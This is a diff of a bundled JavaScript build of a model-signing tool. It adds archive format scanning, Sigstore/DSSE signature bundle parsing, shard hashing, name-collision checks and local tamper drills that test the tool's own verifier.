+      strict: true,
+      onReadEntry: (entry) => {
+        chain = chain.then(() => handle(entry)).catch((e) => {
+          failure ??= e;
+          entry.resume();
+        });
+      }
+    });
+    const done = new Promise((resolve, reject2) => {
+      parser.on("end", resolve);
+      parser.on("error", reject2);
+      parser.on("close", resolve);
+    });
+    const input = createReadStream2(archive);
+    input.on("error", (e) => parser.emit("error", e));
+    input.pipe(parser);
+    try {
+      await done;
+    } catch (e) {
+      findings.push({ code: "TAR_MALFORMED", severity: "high", file: base2, message: `archive cannot be read: ${e.message}` });
+    }
+    await chain;
+    if (failure) throw failure;
+  } finally {
+    if (tmp) await rm2(tmp, { recursive: true, force: true });
+  }
+  return { reports, findings };
+}
+var init_tar = __esm({
+  "src/scan/tar.ts"() {
+    "use strict";
+    init_errors();
+    init_detect();
+    init_scan_file();
+    init_source2();
+    init_archive();
+  }
+});
+
+// src/scan/stage.ts
+var stage_exports2 = {};
+__export(stage_exports2, {
+  DENIABLE_FORMATS: () => DENIABLE_FORMATS,
+  formatsStage: () => formatsStage
+});
+import path9 from "node:path";
+function signedFiles(ctx) {
+  const out2 = /* @__PURE__ */ new Set();
+  for (const r of ctx.statement.resources) {
+    if (ctx.statement.serialization.method === "shards") {
+      const s3 = parseShardName(r.name);
+      if (s3) out2.add(s3.path);
+    } else out2.add(r.name);
+  }
+  return [...out2];
+}
+function denied(report2, deny) {
+  if (deny.has("pickle") && (report2.pickle || report2.format === "pytorch")) return report2.format === "pickle" ? "pickle" : `pickle (inside ${report2.format})`;
+  if (deny.has(report2.format)) return report2.format;
+  return void 0;
+}
+function formatsStage(formats, limits = {}) {
+  const deny = new Set((formats.deny ?? []).map((d) => d.toLowerCase()));
+  for (const d of deny) {
+    if (!DENIABLE_FORMATS.includes(d)) {
+      throw usage("POLICY_INVALID", `formats.deny: unknown format "${d}" (known: ${DENIABLE_FORMATS.join(", ")})`);
+    }
+  }
+  const scan = formats.scan === true;
+  const failOn = formats.failOn ?? "low";
+  if (!SEVERITIES.includes(failOn)) throw usage("POLICY_INVALID", `formats.failOn: unknown severity "${String(failOn)}" (known: ${SEVERITIES.join(", ")})`);
+  const lim = { ...DEFAULT_LIMITS, ...limits };
+  return async (ctx) => {
+    if (!scan && deny.size === 0) return [];
+    const ser = ctx.statement.serialization;
+    const listing = ctx.options.listing ?? await enumerateModel(ctx.options.model, { ignorePaths: [], allowSymlinks: ser.allow_symlinks });
+    const byName = new Map(listing.files.map((f2) => [f2.name, f2]));
+    const failures = [];
+    const reports = [];
+    const judge = (report2, shown, findings) => {
+      if (report2) reports.push(report2);
+      const why2 = report2 && denied(report2, deny);
+      if (why2) failures.push({ code: "FORMAT_DENIED", path: shown, message: `policy denies ${why2} files` });
+      if (scan) {
+        for (const x of findings) {
+          if (severityRank(x.severity) < severityRank(failOn)) continue;
+          failures.push({ code: "SCAN_FINDING", path: shown, message: clean3(`${x.severity}: ${x.member !== void 0 ? `${x.member}: ` : ""}${x.message} [${x.code}]`, 2e3) });
+        }
+      }
+    };
+    const single = listing.isFile ? listing.files[0] : void 0;
+    if (single && isArchivePath(single.abs)) {
+      const base2 = path9.basename(single.abs);
+      const t = await scanTar(single.abs, lim);
+      const entryName = (file) => file.startsWith(`${base2}:`) ? file.slice(base2.length + 1).replace(/^(?:\.\/)+/, "") : file;
+      for (const r of t.reports) judge(r, entryName(r.file), r.findings);
+      for (const x of t.findings) {
+        judge(void 0, entryName(x.file), [x]);
+        if (deny.size > 0 && severityRank(x.severity) >= severityRank("high")) {
+          failures.push({ code: "FORMAT_UNCHECKED", path: entryName(x.file), message: clean3(`cannot tell whether this is a denied format: ${x.message}`, 2e3) });
+        }
+      }
+      ctx.result.extra.scan = reports.map((r) => ({ file: r.file, format: r.format, pickle: r.pickle, findings: r.findings.length }));
+      return failures;
+    }
+    for (const name2 of signedFiles(ctx)) {
+      const f2 = single ?? byName.get(name2);
+      if (!f2) continue;
+      const shown = single ? path9.basename(f2.name) : name2;
+      const report2 = await scanFile(f2.abs, shown, lim);
+      judge(report2, shown, report2.findings);
+      if (single) break;
+    }
+    ctx.result.extra.scan = reports.map((r) => ({ file: r.file, format: r.format, pickle: r.pickle, findings: r.findings.length }));
+    return failures;
+  };
+}
+var init_stage2 = __esm({
+  "src/scan/stage.ts"() {
+    "use strict";
+    init_errors();
+    init_enumerate();
+    init_files();
+    init_one_line();
+    init_scan_file();
+    init_tar();
+    init_types();
+    init_types();
+  }
+});
+
 // src/policy/formats.ts
 var formats_exports = {};
 __export(formats_exports, {
   formatsStages: () => formatsStages
 });
-function formatsStages(formats) {
-  return formats ? [formatsStage(formats)] : [];
+async function formatsStages(formats) {
+  if (!formats) return [];
+  const { formatsStage: formatsStage2 } = await Promise.resolve().then(() => (init_stage2(), stage_exports2));
+  return [formatsStage2(formats)];
 }
 var init_formats = __esm({
   "src/policy/formats.ts"() {
     "use strict";
-    init_stage();
+  }
+});
+
+// src/util/base64.ts
+function isStrictBase64(s3) {
+  const n = s3.length;
+  if (n % 4 !== 0) return false;
+  let end = n;
+  if (n > 0 && s3.charCodeAt(n - 1) === 61) end = s3.charCodeAt(n - 2) === 61 ? n - 2 : n - 1;
+  for (let i = 0; i < end; i++) {
+    const c = s3.charCodeAt(i);
+    const ok = c >= 65 && c <= 90 || c >= 97 && c <= 122 || c >= 48 && c <= 57 || c === 43 || c === 47;
+    if (!ok) return false;
+  }
+  return true;
+}
+function decodeBase64(s3, what, code = "SIG_MALFORMED") {
+  const clean5 = /\s/.test(s3) ? s3.replace(/\s+/g, "") : s3;
+  if (!isStrictBase64(clean5)) throw reject(code, `${what} is not valid base64`);
+  return Buffer.from(clean5, "base64");
+}
+var init_base64 = __esm({
+  "src/util/base64.ts"() {
+    "use strict";
+    init_errors();
+  }
+});
+
+// src/oms/dsse.ts
+function pae(payloadType, payload) {
+  const type = Buffer.from(payloadType, "utf8");
+  const head = Buffer.from(`DSSEv1 ${type.length} ${payloadType} ${payload.length} `, "utf8");
+  return Buffer.concat([head, payload]);
+}
+var IN_TOTO_PAYLOAD_TYPE;
+var init_dsse = __esm({
+  "src/oms/dsse.ts"() {
+    "use strict";
+    IN_TOTO_PAYLOAD_TYPE = "application/vnd.in-toto+json";
+  }
+});
+
+// src/oms/bundle.ts
+import { stat as stat4 } from "node:fs/promises";
+function buildBundle(input) {
+  const verificationMaterial = "publicKeyHint" in input.material ? { publicKey: { hint: input.material.publicKeyHint }, tlogEntries: [] } : { x509CertificateChain: { certificates: input.material.certificates.map((c) => ({ rawBytes: c.toString("base64") })) }, tlogEntries: [] };
+  return {
+    mediaType: BUNDLE_MEDIA_TYPE,
+    verificationMaterial,
+    dsseEnvelope: {
+      payload: input.payload.toString("base64"),
+      payloadType: IN_TOTO_PAYLOAD_TYPE,
+      signatures: [{ sig: input.signature.toString("base64"), keyid: "" }]
+    }
+  };
+}
+function serializeBundle(bundle) {
+  return JSON.stringify(bundle, null, 2) + "\n";
+}
+async function readBundleFile(file, maxBytes = MAX_BUNDLE_BYTES, opts = {}) {
+  try {
+    return await readRegularFile(file, maxBytes, opts.noFollow ? { noFollow: true } : {});
+  } catch (e) {
+    if (e instanceof NotRegularFile) {
+      const isDir = await stat4(file).then((st2) => st2.isDirectory(), () => false);
+      if (isDir) throw usage("SIG_UNREADABLE", `signature path is a directory: ${file}`);
+      throw reject("SIG_UNREADABLE", `signature is not a regular file: ${file}`);
+    }
+    if (e instanceof FileTooLarge) throw reject("SIG_TOO_LARGE", `signature file is larger than ${maxBytes} bytes: ${file}`);
+    const c = errnoCode(e);
+    if (c === "ENOENT") throw reject("SIG_MISSING", `signature file not found: ${file}`);
+    if (c === "ELOOP" && opts.noFollow) {
+      throw reject("SIG_UNREADABLE", `signature file is a symlink, not followed: ${file} (name the signature with --signature to use it)`);
+    }
+    throw reject("SIG_UNREADABLE", `cannot read signature file ${file}: ${c ?? String(e)}`);
+  }
+}
+function bad3(msg) {
+  throw reject("SIG_MALFORMED", `signature bundle is malformed: ${msg}`);
+}
+function parseBundle(bytes) {
+  if (bytes.length === 0) bad3("file is empty");
+  if (bytes.length > MAX_BUNDLE_BYTES) throw reject("SIG_TOO_LARGE", `signature bundle is larger than ${MAX_BUNDLE_BYTES} bytes`);
+  let text;
+  try {
+    text = new TextDecoder("utf-8", { fatal: true }).decode(bytes);
+  } catch {
+    bad3("not UTF-8");
+  }
+  const json = parseStrictJson(text, { what: "signature bundle", code: "SIG_MALFORMED" });
+  if (!isObject(json)) bad3("not a JSON object");
+  const mediaType = json.mediaType;
+  if (typeof mediaType !== "string" || !mediaType.startsWith("application/vnd.dev.sigstore.bundle")) bad3("missing or unknown mediaType");
+  const vm = json.verificationMaterial;
+  if (!isObject(vm)) bad3("verificationMaterial missing");
+  let material;
+  if (isObject(vm.publicKey)) {
+    const pk = vm.publicKey;
+    material = { kind: "publicKey" };
+    if (pk.hint !== void 0) {
+      if (typeof pk.hint !== "string") bad3("publicKey.hint must be a string");
+      material.hint = pk.hint;
+    }
+    if (pk.rawBytes !== void 0) {
+      if (typeof pk.rawBytes !== "string") bad3("publicKey.rawBytes must be a string");
+      material.rawBytes = decodeBase64(pk.rawBytes, "publicKey.rawBytes");
+    }
+    if (typeof pk.keyDetails === "string") material.keyDetails = pk.keyDetails;
+  } else if (isObject(vm.x509CertificateChain)) {
+    const certs = vm.x509CertificateChain.certificates;
+    if (!Array.isArray(certs) || certs.length === 0 || certs.length > 16) bad3("x509CertificateChain.certificates must hold 1 to 16 certificates");
+    material = {
+      kind: "x509CertificateChain",
+      certificates: certs.map((c, i) => {
+        if (!isObject(c) || typeof c.rawBytes !== "string") bad3(`certificate ${i} has no rawBytes`);
+        return decodeBase64(c.rawBytes, `certificate ${i}`);
+      })
+    };
+  } else if (isObject(vm.certificate)) {
+    if (typeof vm.certificate.rawBytes !== "string") bad3("certificate.rawBytes missing");
+    material = { kind: "certificate", certificate: decodeBase64(vm.certificate.rawBytes, "certificate") };
+  } else {
+    bad3("verificationMaterial has no publicKey, x509CertificateChain or certificate");
+  }
+  const env = json.dsseEnvelope;
+  if (!isObject(env)) {
+    if (json.messageSignature !== void 0) throw reject("UNSUPPORTED_FORMAT", "bundle holds a message signature, not a DSSE envelope: not a model signature");
+    bad3("dsseEnvelope missing");
+  }
+  if (typeof env.payloadType !== "string") bad3("dsseEnvelope.payloadType missing");
+  if (typeof env.payload !== "string" || env.payload.length === 0) bad3("dsseEnvelope.payload missing");
+  const payload = decodeBase64(env.payload, "dsseEnvelope.payload");
+  const sigs = env.signatures;
+  if (!Array.isArray(sigs) || sigs.length === 0) bad3("dsseEnvelope.signatures is empty");
+  if (sigs.length > 16) bad3("too many signatures");
+  const signatures = sigs.map((s3, i) => {
+    if (!isObject(s3) || typeof s3.sig !== "string" || s3.sig.length === 0) bad3(`signature ${i} has no sig`);
+    const keyid = s3.keyid;
+    if (keyid !== void 0 && keyid !== null && typeof keyid !== "string") bad3(`signature ${i} keyid must be a string or null`);
+    return { sig: decodeBase64(s3.sig, `signature ${i}`), keyid };
+  });
+  return { mediaType, material, payloadType: env.payloadType, payload, signatures, json, bytes };
+}
+var BUNDLE_MEDIA_TYPE, MAX_BUNDLE_BYTES;
+var init_bundle = __esm({
+  "src/oms/bundle.ts"() {
+    "use strict";
+    init_read_file();
+    init_errors();
+    init_base64();
+    init_strict_json();
+    init_dsse();
+    BUNDLE_MEDIA_TYPE = "application/vnd.dev.sigstore.bundle.v0.3+json";
+    MAX_BUNDLE_BYTES = 32 * 1024 * 1024;
   }
 });
 
 // src/lineage/store.ts
-import { createHash as createHash4 } from "node:crypto";
+import { createHash as createHash3 } from "node:crypto";
 import { lstat as lstat3, mkdir as mkdir2, opendir, stat as stat5 } from "node:fs/promises";
-import path13 from "node:path";
+import path11 from "node:path";
 function bundleDigestOf(bytes) {
-  return `sha256:${createHash4("sha256").update(bytes).digest("hex")}`;
+  return `sha256:${createHash3("sha256").update(bytes).digest("hex")}`;
 }
 async function openStore(dir) {
   let st2;
@@ -58399,7 +58152,7 @@ async function recordBundle(dir, meta, bytes) {
   const base2 = `${safeName(meta.name)}@${safeName(meta.version)}.${hex}`;
   const digest = bundleDigestOf(bytes);
   for (const name2 of [`${base2}.sig`, `${base2}.${digest.slice(7, 23)}.sig`]) {
-    const file = path13.join(dir, name2);
+    const file = path11.join(dir, name2);
     let st2;
     try {
       st2 = await lstat3(file);
@@ -58423,7 +58176,7 @@ var init_store = __esm({
     "use strict";
     init_errors();
     init_bundle();
-    init_sign();
+    init_write_atomic();
     init_metadata();
     init_read_file();
     MAX_STORE_ENTRIES = 1e5;
@@ -58471,7 +58224,7 @@ var init_store = __esm({
         const names = idx.get(bareHex(rootDigest2)) ?? [];
         const out2 = [];
         for (const name2 of names) {
-          const file = path13.join(this.dir, name2);
+          const file = path11.join(this.dir, name2);
           const bytes = await readStoreFile(file);
           if (!bytes) continue;
           this.bytesRead += bytes.length;
@@ -58484,12 +58237,112 @@ var init_store = __esm({
   }
 });
 
+// src/hashing/serialize.ts
+import { createHash as createHash4 } from "node:crypto";
+function planResources(files, method, shardSize) {
+  if (method === "files") return files.map((f2) => ({ name: f2.name, file: f2, start: 0, end: f2.size }));
+  if (!shardSize || !Number.isSafeInteger(shardSize) || shardSize <= 0) throw new Error("shard size must be a positive integer");
+  const out2 = [];
+  for (const f2 of files) {
+    if (f2.size === 0) {
+      out2.push({ name: `${f2.name}:0:0`, file: f2, start: 0, end: 0 });
+      continue;
+    }
+    for (let start = 0; start < f2.size; start += shardSize) {
+      const end = Math.min(f2.size, start + shardSize);
+      out2.push({ name: `${f2.name}:${start}:${end}`, file: f2, start, end });
+    }
+  }
+  return out2;
+}
+function taskFor(p2) {
+  return { abs: p2.file.abs, start: p2.start, end: p2.end, expectSize: p2.file.size, followLink: p2.file.viaLink, ...p2.file.id ? { expectId: p2.file.id } : {} };
+}
+async function hashResources(plans, alg, opts = {}) {
+  const outcomes = await hashTasks(plans.map(taskFor), alg, opts);
+  return plans.map((p2, i) => {
+    const o = outcomes[i];
+    if (!o.ok) throw reject(o.code, `${p2.file.name}: ${o.message}`, p2.file.name);
+    return { name: p2.name, algorithm: alg, digest: o.digest };
+  });
+}
+function rootDigest(resources) {
+  const h = createHash4("sha256");
+  for (const r of resources) h.update(Buffer.from(r.digest, "hex"));
+  return h.digest("hex");
+}
+var init_serialize = __esm({
+  "src/hashing/serialize.ts"() {
+    "use strict";
+    init_errors();
+    init_engine();
+  }
+});
+
+// src/verify/names.ts
+function checkResourceNames(names) {
+  if (names.length === 1 && names[0] === ".") return [];
+  const failures = [];
+  const seen = /* @__PURE__ */ new Set();
+  const nfc = /* @__PURE__ */ new Map();
+  const folded = /* @__PURE__ */ new Map();
+  for (const name2 of names) {
+    const why2 = unsafeNameReason(name2);
+    if (why2) {
+      failures.push({ code: "UNSAFE_NAME", path: name2, message: `unsafe resource name in signature: ${why2}` });
+      continue;
+    }
+    if (seen.has(name2)) {
+      failures.push({ code: "DUPLICATE_NAME", path: name2, message: "resource listed twice in signature" });
+      continue;
+    }
+    seen.add(name2);
+    const n = name2.normalize("NFC");
+    const prevN = nfc.get(n);
+    if (prevN !== void 0) {
+      failures.push({ code: "NAME_COLLISION", path: name2, message: `collides with "${prevN}" after Unicode normalisation` });
+      continue;
+    }
+    nfc.set(n, name2);
+    const f2 = n.toLowerCase();
+    const prevF = folded.get(f2);
+    if (prevF !== void 0) {
+      failures.push({ code: "NAME_COLLISION", path: name2, message: `collides with "${prevF}" on a case-insensitive file system` });
+      continue;
+    }
+    folded.set(f2, name2);
+  }
+  return failures;
+}
+var init_names = __esm({
+  "src/verify/names.ts"() {
+    "use strict";
+    init_paths();
+  }
+});
+
 // src/verify/types.ts
 var NEED_IDENTITY;
 var init_types3 = __esm({
   "src/verify/types.ts"() {
     "use strict";
     NEED_IDENTITY = "give the identity you trust: --identity ID (or --identity-regexp RE) with --identity-provider ISSUER; without one, anyone Fulcio certified would be accepted";
+  }
+});
+
+// src/sign/signature-path.ts
+import path12 from "node:path";
+async function defaultSignaturePath(model) {
+  const { stat: stat8 } = await import("node:fs/promises");
+  try {
+    if ((await stat8(model)).isDirectory()) return path12.join(model, "model.sig");
+  } catch {
+  }
+  return `${model}.sig`;
+}
+var init_signature_path = __esm({
+  "src/sign/signature-path.ts"() {
+    "use strict";
   }
 });
 
@@ -58500,7 +58353,7 @@ __export(pipeline_exports, {
   defaultSignaturePath: () => defaultSignaturePath,
   verifyModel: () => verifyModel
 });
-import path14 from "node:path";
+import path13 from "node:path";
 function refuseKeylessWithoutIdentity(bundle, trust) {
   if (bundle.material.kind === "publicKey") return;
   const vm = bundle.json.verificationMaterial;
@@ -58596,7 +58449,7 @@ async function verifyModel(opts) {
 }
 async function modelSource(opts, resources, method) {
   if (opts.listing) return {};
-  const base2 = path14.basename(opts.model);
+  const base2 = path13.basename(opts.model);
   const fileOf = (n) => method === "shards" ? parseShardName(n)?.path ?? n : n;
   if (!opts.source && resources.length > 0 && resources.every((r) => fileOf(r.name) === "." || fileOf(r.name) === base2)) return {};
   const { archiveSourceFor: archiveSourceFor2 } = await Promise.resolve().then(() => (init_archive(), archive_exports));
@@ -58994,8 +58847,7 @@ __export(state_exports, {
   recordVerified: () => recordVerified,
   serializeState: () => serializeState
 });
-import { open as open4, rename as rename2, stat as stat6, unlink as unlink2, writeFile as writeFile3 } from "node:fs/promises";
-import path15 from "node:path";
+import { open as open4, rename as rename2, stat as stat6, unlink as unlink2 } from "node:fs/promises";
 function bad4(file, msg) {
   throw reject("STATE_CORRUPT", `state file ${file} is corrupt (${msg}); refusing to guess the highest version`);
 }
@@ -59075,14 +58927,7 @@ async function recordVerified(file, entry, opts = {}) {
     const seen = state2.get(entry.name);
     if (seen && import_semver7.default.eq(seen.version, entry.version) && seen.rootDigest === entry.rootDigest) return void 0;
     state2.set(entry.name, { version: entry.version, ...entry.rootDigest ? { rootDigest: entry.rootDigest } : {}, updated: (/* @__PURE__ */ new Date()).toISOString() });
-    const tmp = path15.join(path15.dirname(file), `.${path15.basename(file)}.${process.pid}.${Date.now()}.tmp`);
-    try {
-      await writeFile3(tmp, serializeState(state2), { flag: "wx", mode: 420 });
-      await rename2(tmp, file);
-    } catch (e) {
-      await unlink2(tmp).catch(() => void 0);
-      throw usage("STATE_WRITE_FAILED", `cannot write state file ${file}: ${errnoCode(e) ?? String(e)}`);
-    }
+    await writeAtomic(file, serializeState(state2), "STATE_WRITE_FAILED", `state file ${file}`);
     return void 0;
   } finally {
     await unlink2(lock).catch(() => void 0);
@@ -59092,6 +58937,7 @@ var import_semver7, STATE_SCHEMA, MAX_STATE_BYTES, LOCK_RETRY_MS, LOCK_TIMEOUT_M
 var init_state = __esm({
   "src/lineage/state.ts"() {
     "use strict";
+    init_write_atomic();
     import_semver7 = __toESM(require_semver2(), 1);
     init_errors();
     init_strict_json();
@@ -59251,6 +59097,15 @@ var init_lineage = __esm({
   }
 });
 
+// src/version.ts
+var TOOL_VERSION;
+var init_version = __esm({
+  "src/version.ts"() {
+    "use strict";
+    TOOL_VERSION = "0.1.0";
+  }
+});
+
 // src/audit/record.ts
 import { createHash as createHash5 } from "node:crypto";
 function lineHash(line) {
@@ -59295,13 +59150,13 @@ __export(append_exports, {
   appendAudit: () => appendAudit
 });
 import { constants as constants4 } from "node:fs";
-import { open as open5, stat as stat7, unlink as unlink3, writeFile as writeFile4 } from "node:fs/promises";
+import { open as open5, stat as stat7, unlink as unlink3, writeFile as writeFile3 } from "node:fs/promises";
 async function withLock(file, fn) {
   const lock = `${file}.lock`;
   const deadline = Date.now() + LOCK_WAIT_MS;
   for (; ; ) {
     try {
-      await writeFile4(lock, `${process.pid}
+      await writeFile3(lock, `${process.pid}
 `, { flag: "wx", mode: 384 });
       break;
     } catch (e) {
@@ -59392,6 +59247,142 @@ var init_append = __esm({
   }
 });
 
+// src/sign/digest.ts
+import path15 from "node:path";
+async function digestModel(opts) {
+  const hash = opts.hash ?? "sha256";
+  const sigPath = opts.signature ?? await defaultSignaturePath(opts.model);
+  const ignores = /* @__PURE__ */ new Set([...DEFAULT_IGNORES, ...(opts.ignorePaths ?? []).map(normaliseIgnorePath)]);
+  const rel = path15.relative(path15.resolve(opts.model), path15.resolve(sigPath));
+  if (rel && !rel.startsWith("..") && !path15.isAbsolute(rel)) ignores.add(rel.split(path15.sep).join("/"));
+  const ignorePaths = [...ignores].filter((p2) => p2 !== "" && p2 !== ".");
+  if (opts.shardSize !== void 0 && (!Number.isSafeInteger(opts.shardSize) || opts.shardSize <= 0)) {
+    throw usage("BAD_SHARD_SIZE", "--shard-size must be a positive whole number of bytes");
+  }
+  const method = opts.shardSize ? "shards" : "files";
+  const source = opts.listing ? void 0 : opts.source ?? await archiveSourceFor(opts.model);
+  if (source && !ignorePaths.includes(EMBEDDED_SIGNATURE)) ignorePaths.push(EMBEDDED_SIGNATURE);
+  const pre = source ? await source({ alg: hash, ranges: (_n2, size) => plannedRanges(method, opts.shardSize, size), allowSymlinks: opts.allowSymlinks ?? false, ignorePaths, ...opts.engine?.onProgress ? { onProgress: opts.engine.onProgress } : {} }) : void 0;
+  const listing = opts.listing ?? pre?.listing ?? await enumerateModel(opts.model, { ignorePaths, allowSymlinks: opts.allowSymlinks ?? false });
+  if (listing.problems.length > 0) {
+    const p2 = listing.problems[0];
+    const more = listing.problems.length > 1 ? ` (and ${listing.problems.length - 1} more)` : "";
+    throw usage(p2.code, `${p2.path ?? opts.model}: ${p2.message}${more}`, p2.path);
+  }
+  const nameProblems = listing.isFile ? [] : checkResourceNames(listing.files.map((f2) => f2.name));
+  if (nameProblems.length > 0) {
+    const p2 = nameProblems[0];
+    const more = nameProblems.length > 1 ? ` (and ${nameProblems.length - 1} more)` : "";
+    throw usage(p2.code, `${JSON.stringify(p2.path)}: ${p2.message.replace(" in signature", "")}${more}`, p2.path);
+  }
+  await prepareAlgorithm(hash);
+  const plans = planResources(listing.files, method, opts.shardSize);
+  const resources = pre ? plans.map((p2) => {
+    const o = lookupRange(pre.hashed, p2.file.name, p2.start, p2.end);
+    if (!o.ok) throw usage(o.code, `${p2.file.name}: ${o.message}`, p2.file.name);
+    return { name: p2.name, algorithm: hash, digest: o.digest };
+  }) : await hashResources(plans, hash, opts.engine);
+  const serialization = { method, hash_type: hash, allow_symlinks: opts.allowSymlinks ?? false };
+  if (method === "shards") serialization.shard_size = opts.shardSize;
+  serialization.ignore_paths = ignorePaths;
+  return { listing, serialization, resources, rootDigest: rootDigest(resources) };
+}
+var init_digest = __esm({
+  "src/sign/digest.ts"() {
+    "use strict";
+    init_errors();
+    init_algorithms2();
+    init_enumerate();
+    init_paths();
+    init_serialize();
+    init_archive();
+    init_source();
+    init_names();
+    init_signature_path();
+  }
+});
+
+// src/sign/sign.ts
+var sign_exports = {};
+__export(sign_exports, {
+  checkVersion: () => checkVersion,
+  defaultModelName: () => defaultModelName,
+  digestModel: () => digestModel,
+  keySigner: () => keySigner,
+  signModel: () => signModel,
+  signWithKey: () => signWithKey,
+  writeAtomic: () => writeAtomic
+});
+import path16 from "node:path";
+function keySigner(key, publicKey) {
+  return async (payload) => {
+    const signature = signBytes(key, pae(IN_TOTO_PAYLOAD_TYPE, payload));
+    return buildBundle({ payload, signature, material: { publicKeyHint: keyHint(publicKey) } });
+  };
+}
+async function signWithKey(opts) {
+  await checkVersion(opts.version);
+  const { loadPrivateKey: loadPrivateKey2 } = await Promise.resolve().then(() => (init_keyfile(), keyfile_exports));
+  const { createPublicKey: createPublicKey2 } = await import("node:crypto");
+  const key = typeof opts.key === "string" ? await loadPrivateKey2(opts.key) : opts.key;
+  return signModel({ ...opts, signer: keySigner(key, createPublicKey2(key)) });
+}
+function defaultModelName(model) {
+  const base2 = path16.basename(path16.resolve(model));
+  return base2.replace(/\.(tar\.gz|tgz|tar)$/i, "") || "model";
+}
+async function checkVersion(version) {
+  if (version.length <= 256 && PLAIN_SEMVER.test(version) && version.split(/[.-]/, 3).every((n) => Number(n) <= Number.MAX_SAFE_INTEGER)) return version;
+  const semver9 = (await Promise.resolve().then(() => __toESM(require_semver2(), 1))).default;
+  if (!semver9.valid(version)) throw usage("BAD_VERSION", `--version must be a semantic version like 1.2.0 (got "${version}")`);
+  return semver9.clean(version) ?? version;
+}
+async function signModel(opts) {
+  const version = await checkVersion(opts.version);
+  const signaturePath = opts.signature ?? await defaultSignaturePath(opts.model);
+  const d = await digestModel({ ...opts, signature: signaturePath });
+  const name2 = opts.name ?? defaultModelName(opts.model);
+  const metadata = {
+    name: name2,
+    version,
+    ...opts.license ? { license: opts.license } : {},
+    created: (/* @__PURE__ */ new Date()).toISOString(),
+    tool: `modelsign/${TOOL_VERSION}`,
+    ...opts.extraMetadata ?? {}
+  };
+  const statement = buildStatement({ name: name2, rootDigest: d.rootDigest, serialization: d.serialization, resources: d.resources, metadata });
+  const payload = Buffer.from(JSON.stringify(statement), "utf8");
+  const bundle = await opts.signer(payload);
+  const bundleText = serializeBundle(bundle);
+  if (opts.write !== false) await writeAtomic(signaturePath, bundleText);
+  return {
+    signaturePath,
+    rootDigest: d.rootDigest,
+    statement,
+    bundleText,
+    files: d.listing.files.length,
+    bytes: d.listing.files.reduce((s3, f2) => s3 + f2.size, 0)
+  };
+}
+var ID, PLAIN_SEMVER;
+var init_sign = __esm({
+  "src/sign/sign.ts"() {
+    "use strict";
+    init_errors();
+    init_write_atomic();
+    init_algorithms();
+    init_bundle();
+    init_dsse();
+    init_statement();
+    init_signature_path();
+    init_digest();
+    init_version();
+    init_digest();
+    ID = "(?:0|[1-9]\\d*|\\d*[a-zA-Z-][0-9a-zA-Z-]*)";
+    PLAIN_SEMVER = new RegExp(`^(?:0|[1-9]\\d*)\\.(?:0|[1-9]\\d*)\\.(?:0|[1-9]\\d*)(?:-${ID}(?:\\.${ID})*)?$`);
+  }
+});
+
 // src/scan/scan-path.ts
 import { lstat as lstat4 } from "node:fs/promises";
 import path17 from "node:path";
@@ -59408,7 +59399,7 @@ async function scanPath(target, opts = {}) {
   } catch (e) {
     throw usage("SCAN_NOT_FOUND", errnoCode(e) === "ENOENT" ? `no such file or directory: ${target}` : `cannot read ${target}: ${errnoCode(e) ?? String(e)}`);
   }
-  if (st2.isFile() && isTarName(target)) {
+  if (st2.isFile() && isArchivePath(target)) {
     const r = await scanTar(target, limits);
     return summarise(target, r.reports, r.findings, opts.failOn);
   }
@@ -59624,7 +59615,7 @@ var init_hostile = __esm({
 });
 
 // src/drill/model.ts
-import { mkdir as mkdir3, writeFile as writeFile5 } from "node:fs/promises";
+import { mkdir as mkdir3, writeFile as writeFile4 } from "node:fs/promises";
 import path18 from "node:path";
 function filler(n, seed) {
   const b2 = Buffer.alloc(n);
@@ -59645,11 +59636,11 @@ function safetensorsShard(tensor, data) {
 }
 async function writeModel(dir, seed = 1) {
   await mkdir3(path18.join(dir, "tokenizer"), { recursive: true });
-  await writeFile5(path18.join(dir, SHARD_1), safetensorsShard("a.weight", filler(64 * 1024, seed)));
-  await writeFile5(path18.join(dir, SHARD_2), safetensorsShard("b.weight", filler(64 * 1024, seed + 1)));
-  await writeFile5(path18.join(dir, "model.safetensors.index.json"), JSON.stringify({ weight_map: { "a.weight": SHARD_1, "b.weight": SHARD_2 } }));
-  await writeFile5(path18.join(dir, "config.json"), JSON.stringify({ architectures: ["LlamaForCausalLM"], hidden_size: 64, seed }));
-  await writeFile5(path18.join(dir, "tokenizer", "tokenizer.json"), JSON.stringify({ version: "1.0", model: { vocab: { a: 0, b: 1 } } }));
+  await writeFile4(path18.join(dir, SHARD_1), safetensorsShard("a.weight", filler(64 * 1024, seed)));
+  await writeFile4(path18.join(dir, SHARD_2), safetensorsShard("b.weight", filler(64 * 1024, seed + 1)));
+  await writeFile4(path18.join(dir, "model.safetensors.index.json"), JSON.stringify({ weight_map: { "a.weight": SHARD_1, "b.weight": SHARD_2 } }));
+  await writeFile4(path18.join(dir, "config.json"), JSON.stringify({ architectures: ["LlamaForCausalLM"], hidden_size: 64, seed }));
+  await writeFile4(path18.join(dir, "tokenizer", "tokenizer.json"), JSON.stringify({ version: "1.0", model: { vocab: { a: 0, b: 1 } } }));
   return dir;
 }
 async function signDrillModel(dir, key, o = {}) {
@@ -59688,7 +59679,7 @@ var init_types4 = __esm({
 // src/drill/attacks.ts
 import { execFileSync } from "node:child_process";
 import { createHash as createHash6, generateKeyPairSync as generateKeyPairSync2 } from "node:crypto";
-import { appendFile, copyFile, mkdir as mkdir4, readFile as readFile3, rename as rename3, rm as rm3, symlink, writeFile as writeFile6 } from "node:fs/promises";
+import { appendFile, copyFile, mkdir as mkdir4, readFile as readFile3, rename as rename3, rm as rm3, symlink, writeFile as writeFile5 } from "node:fs/promises";
 import { rmSync } from "node:fs";
 import path19 from "node:path";
 async function readSigned(model) {
@@ -59699,7 +59690,7 @@ async function readSigned(model) {
 async function writeSignedPayload(model, payload, key) {
   const bytes = Buffer.from(payload, "utf8");
   const signature = signBytes(key.priv, pae(IN_TOTO_PAYLOAD_TYPE, bytes));
-  await writeFile6(path19.join(model, "model.sig"), serializeBundle(buildBundle({ payload: bytes, signature, material: { publicKeyHint: keyHint(key.pub) } })));
+  await writeFile5(path19.join(model, "model.sig"), serializeBundle(buildBundle({ payload: bytes, signature, material: { publicKeyHint: keyHint(key.pub) } })));
 }
 async function signedWithExtraResource(ctx, dirName, extra) {
   const m2 = await ctx.copyBase(dirName);
@@ -59751,7 +59742,7 @@ var init_attacks = __esm({
           const b2 = await readFile3(f2);
           const i = b2.length >> 1;
           b2[i] = b2[i] ^ 1;
-          await writeFile6(f2, b2);
+          await writeFile5(f2, b2);
           return { model: m2 };
         }
       },
@@ -59761,7 +59752,7 @@ var init_attacks = __esm({
